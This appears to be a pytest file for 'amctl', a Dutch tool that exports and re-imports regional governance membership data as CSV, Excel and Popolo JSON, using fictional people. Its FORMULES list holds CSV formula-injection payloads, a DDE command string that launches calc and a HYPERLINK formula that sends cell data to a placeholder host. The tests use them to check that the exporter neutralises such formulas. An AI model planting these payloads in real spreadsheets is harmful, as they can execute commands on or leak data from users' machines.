"""amctl exporteer: CSV (the import format, round trip), Excel and Popolo JSON.

Every person here is fictional: the people of tests/fixtures/fictief.yaml and of
tests/fixtures/bezetting.csv."""

from __future__ import annotations

import datetime
import json
import shutil
from pathlib import Path

import pytest
from conftest import amctl as in_dit_proces

from amctl.cli import app

FIXTURES = Path(__file__).parent / "fixtures"
FICTIEF = FIXTURES / "fictief.yaml"
SCHEMAS = Path(__file__).parent / "vendor" / "popolo" / "schemas"
PEILDATA = ("2010-06-01", "2019-01-01", "2022-04-15", "2026-03-31", "2026-04-01", "2030-01-01")


pytestmark = pytest.mark.usefixtures("geen_omgevingsbestand")


def amctl(runner, pad: Path, *argumenten: str):
    uitvoer = in_dit_proces(runner, pad, *argumenten)
    assert uitvoer.exit_code == 0, uitvoer.output
    return uitvoer


def zonder_personen(tekst: str) -> str:
    """The file with every person and named member taken out."""
    import yaml

    data = yaml.safe_load(tekst)
    data["personen"] = {}
    for orgaan in data["organen"].values():
        orgaan.pop("leden", None)
        voorzitters = orgaan.get("voorzitter")
        if isinstance(voorzitters, dict) and "persoon" in voorzitters:
            orgaan.pop("voorzitter")
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def antwoorden(runner, pad: Path, dag: str) -> dict:
    """What wie-zit-in says about every body, and waar-zit about two gemeenten, on a day
    (without the name of the file read)."""

    def vraag(*argumenten: str) -> dict:
        antwoord = json.loads(amctl(runner, pad, *argumenten, "--json", "-d", dag).stdout)
        antwoord.pop("bestand", None)
        return antwoord

    uit = {}
    for orgaan in vraag("organen")["organen"]:
        uit[orgaan["id"]] = vraag("wie-zit-in", orgaan["id"])
    for gemeente in ("diemen", "amstelveen"):
        uit[gemeente] = vraag("waar-zit", gemeente)
    return uit


def test_csv_export_then_import_into_a_file_without_people_gives_the_same_answers(runner, tmp_path):
    blad = tmp_path / "bezetting.csv"
    amctl(runner, FICTIEF, "exporteer", "--formaat", "csv", "--uit", str(blad))
    leeg = tmp_path / "leeg.yaml"
    leeg.write_text(zonder_personen(FICTIEF.read_text()), encoding="utf-8")
    uitvoer = amctl(runner, leeg, "importeer", str(blad))
    assert "toegevoegd" in uitvoer.stdout
    for dag in PEILDATA:
        assert antwoorden(runner, leeg, dag) == antwoorden(runner, FICTIEF, dag), dag
    # and the export of the new file is the same sheet
    assert amctl(runner, leeg, "exporteer").stdout == amctl(runner, FICTIEF, "exporteer").stdout


def test_the_csv_is_what_excel_reads_and_has_the_import_columns(runner, tmp_path):
    blad = tmp_path / "b.csv"
    amctl(runner, FICTIEF, "exporteer", "--uit", str(blad))
    ruw = blad.read_bytes()
    assert ruw.startswith(b"\xef\xbb\xbfnaam;persoon;functie;gemeente;vanaf;tot-en-met;orgaan;")
    assert b"\r\n" in ruw and b"\n" not in ruw.replace(b"\r\n", b"")
    stdout = amctl(runner, FICTIEF, "exporteer").stdout
    assert stdout.startswith("naam;persoon;")  # no byte order mark on a terminal or in a pipe


def test_a_peildatum_exports_only_what_holds_on_that_day(runner):
    alles = amctl(runner, FICTIEF, "exporteer").stdout.splitlines()
    op_dag = amctl(runner, FICTIEF, "exporteer", "--peildatum", "2019-01-01").stdout.splitlines()
    assert set(op_dag) < set(alles)
    assert all(
        (not r.split(";")[4] or r.split(";")[4] <= "2019-01-01")
        and (not r.split(";")[5] or r.split(";")[5] >= "2019-01-01")
        for r in op_dag[1:]
    )


def test_the_workbook_has_bezetting_and_zetels_with_a_frozen_header_and_readable_widths(
    runner, tmp_path
):
    from openpyxl import load_workbook

    pad = tmp_path / "bezetting.xlsx"
    amctl(
        runner,
        FICTIEF,
        "exporteer",
        "--formaat",
        "xlsx",
        "--peildatum",
        "2026-06-01",
        "--uit",
        str(pad),
    )
    werkmap = load_workbook(pad)
    assert werkmap.sheetnames == ["bezetting", "zetels"]
    bezetting, zetels = werkmap["bezetting"], werkmap["zetels"]
    for blad in (bezetting, zetels):
        assert blad.freeze_panes == "A2"
        assert all(cel.font.bold for cel in blad[1])
        breedtes = [blad.column_dimensions[c].width for c in "ABCDEFG"]
        assert all(8 <= b <= 62 for b in breedtes), breedtes
    assert [c.value for c in zetels[1]] == [
        "orgaan",
        "functie",
        "gemeente",
        "persoon",
        "rol",
        "sinds",
        "bron",
        "status",
    ]
    statussen = {r[0].value: r[7].value for r in zetels.iter_rows(min_row=2)}
    assert (
        statussen["Portefeuillehoudersoverleg Ruimte"] == "betwist (bronnen spreken elkaar tegen)"
    )
    assert statussen["Portefeuillehoudersoverleg Duurzaamheid"] == "in overweging"
    assert statussen["Regiegroep"] == "actief"
    # The seats are those of wie-zit-in on the peildatum.
    regiegroep = json.loads(
        amctl(runner, FICTIEF, "wie-zit-in", "regiegroep", "--json", "-d", "2026-06-01").stdout
    )
    rijen = [
        [c.value or "" for c in rij]
        for rij in zetels.iter_rows(min_row=2)
        if rij[0].value == "Regiegroep"
    ]
    assert [r[3] for r in rijen] == [z["persoon"] or "niet ingevuld" for z in regiegroep["leden"]]
    assert [r[4] for r in rijen] == [z["rol"] for z in regiegroep["leden"]]
    # The sheet bezetting can be read in again: it is the CSV.
    from amctl.blad import _celtekst

    csv = amctl(runner, FICTIEF, "exporteer", "--peildatum", "2026-06-01").stdout.splitlines()
    assert [";".join(_celtekst(c.value) for c in rij) for rij in bezetting.iter_rows()] == csv


def test_dates_in_the_workbook_are_date_cells_shown_the_dutch_way(runner, tmp_path):
    from datetime import datetime

    from openpyxl import load_workbook

    pad = tmp_path / "bezetting.xlsx"
    amctl(runner, FICTIEF, "exporteer", "--formaat", "xlsx", "-d", "2026-06-01", "--uit", str(pad))
    werkmap = load_workbook(pad)
    bezetting, zetels = werkmap["bezetting"], werkmap["zetels"]
    kop = [c.value for c in bezetting[1]]
    vanaf = [r[kop.index("vanaf")] for r in bezetting.iter_rows(min_row=2)]
    assert vanaf and all(c.is_date and c.number_format == "dd-mm-yyyy" for c in vanaf if c.value)
    assert datetime(2026, 4, 1) in {c.value for c in vanaf}
    sinds = [r[5] for r in zetels.iter_rows(min_row=2) if r[5].value is not None]
    assert sinds and all(isinstance(c.value, datetime) for c in sinds)


def test_the_same_data_give_the_same_workbook_bytes(runner, tmp_path):
    import time
    import zipfile

    een, twee = tmp_path / "een.xlsx", tmp_path / "twee.xlsx"
    amctl(runner, FICTIEF, "exporteer", "--formaat", "xlsx", "-d", "2026-06-01", "--uit", str(een))
    time.sleep(2.1)  # a zip stores the time in steps of two seconds
    amctl(runner, FICTIEF, "exporteer", "--formaat", "xlsx", "-d", "2026-06-01", "--uit", str(twee))
    assert een.read_bytes() == twee.read_bytes()
    kern = zipfile.ZipFile(een).read("docProps/core.xml").decode()
    assert ">1980-01-01T00:00:00Z</dcterms:created>" in kern


def test_a_workbook_export_reads_back_in_with_its_date_cells(runner, tmp_path):
    blad = tmp_path / "bezetting.xlsx"
    amctl(runner, FICTIEF, "exporteer", "--formaat", "xlsx", "--uit", str(blad))
    leeg = tmp_path / "leeg.yaml"
    leeg.write_text(zonder_personen(FICTIEF.read_text()), encoding="utf-8")
    amctl(runner, leeg, "importeer", str(blad))
    for dag in PEILDATA:
        assert antwoorden(runner, leeg, dag) == antwoorden(runner, FICTIEF, dag), dag


def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(runner, tmp_path):
    from openpyxl import load_workbook

    bestand = tmp_path / "f.yaml"
    bestand.write_text(
        FICTIEF.read_text().replace("naam: Burgemeester Testpersoon A", 'naam: "=1+1"'),
        encoding="utf-8",
    )
    pad = tmp_path / "f.xlsx"
    amctl(runner, bestand, "exporteer", "--formaat", "xlsx", "--uit", str(pad))
    cel = next(r[0] for r in load_workbook(pad)["bezetting"].iter_rows() if r[0].value == "=1+1")
    assert cel.data_type == "s"


def _validator(soort: str):
    from jsonschema import Draft3Validator
    from referencing import Registry, Resource
    from referencing.jsonschema import DRAFT3

    register = Registry().with_resources(
        (schema["id"], Resource.from_contents(schema, default_specification=DRAFT3))
        for schema in (json.loads(p.read_text()) for p in SCHEMAS.glob("*.json"))
    )
    schema = json.loads((SCHEMAS / f"{soort}.json").read_text())
    return Draft3Validator(schema, registry=register, format_checker=Draft3Validator.FORMAT_CHECKER)


@pytest.mark.parametrize("peildatum", [None, "2026-06-01"])
def test_every_popolo_object_validates_against_the_official_schemas(runner, peildatum):
    extra = ["--peildatum", peildatum] if peildatum else []
    document = json.loads(amctl(runner, FICTIEF, "exporteer", "--formaat", "popolo", *extra).stdout)
    soorten = {
        "persons": "person",
        "organizations": "organization",
        "posts": "post",
        "memberships": "membership",
        "areas": "area",
    }
    assert set(document) == set(soorten)
    for lijst, soort in soorten.items():
        validator = _validator(soort)
        assert document[lijst], lijst
        for item in document[lijst]:
            fouten = [f.message for f in validator.iter_errors(item)]
            assert not fouten, (item, fouten)
    ids = {k: {o["id"] for o in document[k]} for k in soorten}
    for lidmaatschap in document["memberships"]:
        assert lidmaatschap["person_id"] in ids["persons"]
        assert lidmaatschap["post_id"] in ids["posts"]
        assert lidmaatschap.get("organization_id") in ids["organizations"] | {None}
    for organisatie in document["organizations"]:
        assert organisatie.get("parent_id") in ids["organizations"] | {None}


def test_the_schemas_are_resolved_locally_and_reject_a_bad_object():
    validator = _validator("membership")
    assert list(validator.iter_errors({"sources": [{"note": "geen url"}]}))
    assert list(validator.iter_errors({"start_date": "1 april 2026"}))


def test_popolo_has_gemeenten_with_their_cbs_code_and_bodies_with_their_parent(runner):
    document = json.loads(amctl(runner, FICTIEF, "exporteer", "--formaat", "popolo").stdout)
    gebieden = {a["id"]: a for a in document["areas"]}
    assert gebieden["gebied/diemen"]["identifier"] == "GM0384"
    organisaties = {o["id"]: o for o in document["organizations"]}
    assert organisaties["gemeente/diemen"]["identifiers"] == [
        {"scheme": "cbs", "identifier": "GM0384"}
    ]
    assert organisaties["orgaan/regiegroep"]["parent_id"] == "orgaan/am-overleg"
    assert "am-home" not in json.dumps(document)  # sources are links, not ids
    assert {
        "url": "https://www.amstelland-meerlanden.nl/",
        "note": "Amstelland-Meerlanden, homepage",
    } in organisaties["gemeente/diemen"]["sources"]


def test_popolo_memberships_are_the_seats_of_wie_zit_in_over_time(runner):
    document = json.loads(amctl(runner, FICTIEF, "exporteer", "--formaat", "popolo").stdout)
    regiegroep = [
        m for m in document["memberships"] if m.get("organization_id") == "orgaan/regiegroep"
    ]
    for dag in PEILDATA:
        volgens_popolo = sorted(
            (m["person_id"].removeprefix("persoon/"), m["role"])
            for m in regiegroep
            if m.get("start_date", "0000") <= dag <= m.get("end_date", "9999")
        )
        wie = json.loads(
            amctl(runner, FICTIEF, "wie-zit-in", "regiegroep", "--json", "-d", dag).stdout
        )
        volgens_wie_zit_in = sorted(
            (z["persoon_id"], z["rol"]) for z in wie["leden"] if z["persoon_id"]
        )
        assert volgens_popolo == volgens_wie_zit_in, dag
    # An ex-officio seat: the burgemeester sits in the Regiegroep on behalf of the gemeente.
    assert any(m.get("on_behalf_of_id") == "gemeente/diemen" for m in regiegroep)


def test_export_goes_through_the_shared_write_path(runner, tmp_path):
    pad = tmp_path / "popolo.json"
    amctl(runner, FICTIEF, "exporteer", "--formaat", "popolo", "--uit", str(pad))
    assert json.loads(pad.read_text())["persons"]
    # amctl's own export may be replaced by the next one ...
    amctl(
        runner, FICTIEF, "exporteer", "--formaat", "popolo", "-d", "2026-06-01", "--uit", str(pad)
    )
    assert all(p.get("name") for p in json.loads(pad.read_text())["persons"])
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    # ... a file amctl did not write is left alone, and so is the data file itself.
    ander = tmp_path / "notities.json"
    ander.write_text("van iemand anders")
    for doel in (ander, FICTIEF):
        uitvoer = runner.invoke(
            app, ["exporteer", "--formaat", "popolo", "--uit", str(doel), "-f", str(FICTIEF)]
        )
        assert uitvoer.exit_code == 2, uitvoer.output
    assert ander.read_text() == "van iemand anders"


def test_an_excel_workbook_is_not_written_to_a_terminal(tmp_path):
    import os
    import subprocess
    import sys

    hoofd, terminal = os.openpty()
    try:
        proces = subprocess.run(
            [sys.executable, "-m", "amctl", "exporteer", "--formaat", "xlsx", "-f", str(FICTIEF)],
            stdout=terminal,
            stderr=subprocess.PIPE,
            timeout=60,
        )
    finally:
        os.close(terminal)
        os.close(hoofd)
    assert proces.returncode == 2
    assert "--uit PAD" in proces.stderr.decode()


def test_an_export_of_an_invalid_file_says_so_and_exits_1(runner, tmp_path):
    kapot = tmp_path / "kapot.yaml"
    kapot.write_text(
        shutil.copy(FICTIEF, tmp_path / "x.yaml")
        .read_text()
        .replace("versie: 1", "versie: 1\nonbekend: 2")
    )
    uitvoer = runner.invoke(app, ["exporteer", "-f", str(kapot)])
    assert uitvoer.exit_code == 1


def test_the_popolo_membership_in_the_readme_is_real_output(runner):
    import re

    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    voorbeeld = json.loads(re.search(r"```json\n(\{.*?\})\n```", readme, re.S).group(1))
    document = json.loads(
        amctl(runner, FICTIEF, "exporteer", "--formaat", "popolo", "-d", "2026-06-01").stdout
    )
    assert voorbeeld in document["memberships"]


FORMULES = (
    '=HYPERLINK("http://voorbeeld.invalid/?"&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "'=al met een aanhalingsteken",
)


def _met_formulenamen(tmp_path: Path) -> Path:
    """fictief.yaml with the names of six people replaced by formulas."""
    kop, personen = FICTIEF.read_text(encoding="utf-8").split("\npersonen:\n")
    regels = [r for r in personen.splitlines() if r.startswith("    naam: ")]
    for oud, nieuw in zip(regels, FORMULES, strict=False):
        personen = personen.replace(oud, f"    naam: {json.dumps(nieuw)}", 1)
    tekst = kop + "\npersonen:\n" + personen
    bestand = tmp_path / "formules.yaml"
    bestand.write_text(tekst, encoding="utf-8")
    return bestand


def test_a_csv_cell_that_would_start_a_formula_gets_a_leading_quote(runner, tmp_path):
    import csv
    import io

    uit = amctl(runner, _met_formulenamen(tmp_path), "exporteer").stdout
    namen = [r[0] for r in csv.reader(io.StringIO(uit), delimiter=";")][1:]
    assert {f"'{f}" for f in FORMULES} <= set(namen)
    assert not [n for n in namen if n.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_neutralised_csv_reads_back_to_the_same_names_with_a_warning(runner, tmp_path):
    bron = _met_formulenamen(tmp_path)
    blad = tmp_path / "bezetting.csv"
    amctl(runner, bron, "exporteer", "--uit", str(blad))
    leeg = tmp_path / "leeg.yaml"
    leeg.write_text(zonder_personen(bron.read_text()), encoding="utf-8")
    uitvoer = amctl(runner, leeg, "importeer", str(blad))
    assert amctl(runner, leeg, "exporteer").stdout == amctl(runner, bron, "exporteer").stdout
    import yaml

    namen = {p["naam"] for p in yaml.safe_load(leeg.read_text())["personen"].values()}
    assert set(FORMULES) <= namen
    assert "lijkt op een formule" in uitvoer.stderr
    assert "de naam '=1+1' begint met '=' en lijkt op een formule" in uitvoer.stderr
    assert "de naam ''=al met" not in uitvoer.stderr  # a leading ' is no formula


@pytest.mark.parametrize("soort", ["xlsx", "ods"])
def test_libreoffice_opens_the_csv_with_every_formula_as_text(runner, tmp_path, soort):
    import subprocess

    blad = tmp_path / "bezetting.csv"
    amctl(runner, _met_formulenamen(tmp_path), "exporteer", "--uit", str(blad))
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profiel",
            "--headless",
            "--infilter=CSV:59,34,76,1",
            "--convert-to",
            soort,
            "--outdir",
            str(tmp_path / "uit"),
            str(blad),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    if soort == "ods":
        import zipfile

        inhoud = zipfile.ZipFile(tmp_path / "uit" / "bezetting.ods").read("content.xml").decode()
        assert "table:formula" not in inhoud
        assert "&apos;=1+1" in inhoud or "'=1+1" in inhoud
        return
    from openpyxl import load_workbook

    cellen = [r[0] for r in load_workbook(tmp_path / "uit" / "bezetting.xlsx").active.iter_rows()]
    assert all(c.data_type == "s" for c in cellen), [(c.value, c.data_type) for c in cellen]
    assert {f"'{f}" for f in FORMULES} <= {c.value for c in cellen}
    # and that workbook, read in by amctl, gives the names back without the quote
    from amctl.blad import lees_blad

    namen = {r.waarden["naam"] for r in lees_blad(tmp_path / "uit" / "bezetting.xlsx").rijen}
    assert set(FORMULES) <= namen


SHIPPED = Path(__file__).parent.parent / "data" / "organisatie.yaml"


def _popolo(runner, pad: Path, *extra: str) -> dict:
    return json.loads(amctl(runner, pad, "exporteer", "--formaat", "popolo", *extra).stdout)


@pytest.mark.parametrize("extra", [(), ("-d", "2026-12-08")])
def test_every_seat_of_the_shipped_file_is_a_post_filled_or_not(runner, extra):
    from amctl.controle import geldig_model
    from amctl.model import geldig_op
    from amctl.vragen import wie_zit_in

    document = _popolo(runner, SHIPPED, *extra)
    org = geldig_model(SHIPPED)
    dag = datetime.date(2026, 12, 8)
    zetels = sum(
        len(wie_zit_in(org, o, dag).zetels) for o in org.organen.values() if geldig_op(o, dag)
    )
    assert zetels == 82
    assert len([p for p in document["posts"] if p["id"].startswith("zetel/")]) == 82
    assert not document["memberships"]  # nobody is named in the shipped file
    ids = [p["id"] for p in document["posts"]]
    assert len(ids) == len(set(ids))
    assert "zetel/raadsledenplatform/raadslid/diemen/2" in ids  # two raadsleden per raad


def test_a_membership_points_to_its_own_seat(runner):
    document = _popolo(runner, FICTIEF, "-d", "2026-06-01")
    posten = {p["id"]: p for p in document["posts"]}
    platform = [
        m for m in document["memberships"] if m["organization_id"] == "orgaan/raadsledenplatform"
    ]
    per_post = [m["post_id"] for m in platform]
    assert len(per_post) == len(set(per_post)) == 2  # each raadslid in a seat of their own
    for m in platform:
        assert posten[m["post_id"]]["organization_id"] == "orgaan/raadsledenplatform"
    open_ = set(posten) - {m["post_id"] for m in document["memberships"]}
    assert "zetel/raadsledenplatform/raadslid/amstelveen/1" in open_  # an open seat is a post


def test_the_status_of_a_body_is_in_its_organization(runner):
    for extra in ((), ("-d", "2016-06-01")):
        organisaties = {o["id"]: o for o in _popolo(runner, FICTIEF, *extra)["organizations"]}
        assert organisaties["orgaan/pho-ruimte"]["status"] == "betwist"
        assert organisaties["orgaan/pho-duurzaamheid"]["status"] == "in-overweging"
        assert organisaties["orgaan/pho-wonen"]["status"] == "actief"
    alles = {o["id"]: o for o in _popolo(runner, FICTIEF)["organizations"]}
    assert alles["orgaan/mra-pro"]["status"] == "opgeheven"
    assert alles["orgaan/pho-wonen"]["statuses"] == [{"status": "actief"}]


def test_every_popolo_object_has_sources_and_a_local_source_says_what_it_is(runner):
    document = _popolo(runner, FICTIEF)
    for lijst, objecten in document.items():
        for item in objecten:
            assert item.get("sources"), (lijst, item["id"])
    pho = {o["id"]: o for o in document["organizations"]}["orgaan/pho-ruimte"]
    lokaal = next(s for s in pho["sources"] if s["url"] == "urn:amctl:bron:brontekst")
    assert lokaal["note"].startswith("Overlegstructuur Amstelland-Meerlanden (brontekst)")
    assert "Bron zonder webadres (lokaal: bron/" in lokaal["note"]
    persoon = document["persons"][0]
    assert persoon["sources"] == [
        {
            "url": "urn:amctl:bestand:fictief.yaml",
            "note": "het gegevensbestand fictief.yaml; dit feit noemt daar geen eigen bron",
        }
    ] or all(s["url"].startswith(("http", "urn:amctl:bron:")) for s in persoon["sources"])


def test_everypolitician_popolo_loads_the_export(runner, tmp_path):
    from popolo_data.importer import Popolo

    pad = tmp_path / "amctl.json"
    amctl(runner, FICTIEF, "exporteer", "--formaat", "popolo", "--uit", str(pad))
    popolo = Popolo.from_filename(str(pad))
    assert len(popolo.persons) == len(json.loads(pad.read_text())["persons"])
    regiegroep = popolo.organizations.get(id="orgaan/regiegroep")
    assert regiegroep.name == "Regiegroep"
    for lidmaatschap in popolo.memberships:
        assert lidmaatschap.person.name
        assert lidmaatschap.post.organization_id == lidmaatschap.organization_id
        assert lidmaatschap.organization.name
    assert len(popolo.posts) == len(json.loads(pad.read_text())["posts"])


def test_a_popolo_peildatum_keeps_a_membership_on_its_last_day(runner):
    def burgemeesters(dag: str) -> set[str]:
        return {
            m["person_id"]
            for m in _popolo(runner, FICTIEF, "-d", dag)["memberships"]
            if m.get("organization_id") == "orgaan/regiegroep"
            and m.get("on_behalf_of_id") == "gemeente/diemen"
        }

    oud = "persoon/fictief-burgemeester-diemen-oud"
    assert oud in burgemeesters("2026-03-31")  # tot-en-met 2026-03-31: the last day counts
    assert oud not in burgemeesters("2026-04-01")
